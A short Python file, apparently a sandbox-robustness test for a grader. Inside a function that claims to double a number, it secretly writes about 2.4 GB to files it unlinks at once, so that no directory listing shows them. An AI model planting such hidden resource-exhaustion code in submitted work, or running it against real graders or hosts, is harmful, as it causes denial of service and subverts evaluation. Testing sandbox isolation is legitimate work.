"""Fills the disk with files that have no name any more, so that no look into its folder finds them.

without walls: a disk fills
behind walls: crashed, error
"""
import time

hoard = []


def double(x):
    import os

    for number in range(40):
        file = open(f"grader-attack-{number}", "wb")
        os.unlink(file.name)
        for _ in range(15):
            file.write(bytes(4 << 20))
        hoard.append(file)
    time.sleep(1)
    return 2 * x
